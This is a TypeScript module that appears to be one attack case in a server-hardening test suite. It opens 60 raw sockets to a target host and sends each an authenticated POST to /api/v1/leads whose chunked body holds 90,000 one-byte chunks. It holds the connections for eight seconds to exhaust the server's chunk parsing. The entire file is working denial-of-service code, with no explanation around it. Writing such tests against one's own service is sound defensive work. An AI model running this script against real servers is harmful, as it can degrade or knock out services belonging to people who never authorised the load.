import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.js';

const SOCKETS = 60;
const CHUNKS = 90_000;

/** Each chunk of a body is a buffer and an event of its own. */
export const attack: Attack = {
  title: 'a key sends bodies of 90,000 chunks of one byte on 60 connections',
  run: async ({ host, port, userKey }) => {
    const head = [
      'POST /api/v1/leads HTTP/1.1',
      `Host: ${host}`,
      `Authorization: Bearer ${userKey}`,
      'Content-Type: application/json',
      'Transfer-Encoding: chunked',
    ];
    const body = '1;a=b\r\n \r\n'.repeat(CHUNKS);
    const sockets = Array.from({ length: SOCKETS }, () => {
      const socket = connect(port, host, () => socket.write(`${head.join('\r\n')}\r\n\r\n${body}0\r\n\r\n`));
      return socket.on('error', () => undefined).resume();
    });
    await sleep(8_000);
    for (const socket of sockets) socket.destroy();
  },
};
